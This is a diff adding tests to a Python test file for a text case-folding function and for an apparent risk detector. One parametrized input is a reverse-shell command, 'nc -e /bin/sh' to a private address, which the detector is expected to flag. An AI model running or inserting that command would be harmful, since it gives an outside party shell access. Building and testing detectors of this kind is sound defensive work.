@@ -76,3 +76,24 @@ def test_fold_agrees_with_ignorecase_on_every_literal_character():
     for ch in chars:
         for hit in re.findall(re.escape(ch), every, re.IGNORECASE):
             assert fold(hit) == fold(ch), (ch, hit)
+
+
+def test_fold_keeps_each_character_one_character_and_its_word_class():
+    # Positions and word boundaries of the folded text are those of the text.
+    for cp in range(sys.maxunicode + 1):
+        ch = chr(cp)
+        assert len(fold(ch)) == 1, hex(cp)
+        assert (re.match(r"\w", ch) is not None) == (ch.isalnum() or ch == "_"), hex(cp)
+
+
+@pytest.mark.parametrize(
+    ("text", "opened"),
+    [
+        ("We went dancing once since the concert.", False),  # "nc" inside words
+        ("then nc -e /bin/sh 10.0.0.1 4444", True),
+        ("No need to ask me.", True),  # a bare release is a safeguard
+    ],
+)
+def test_a_literal_wanted_as_a_word_is_not_found_inside_one(text, opened):
+    assert risk.may_have_effects(text) == opened
+    assert risk.effects(text) == risk.read_effects(text)
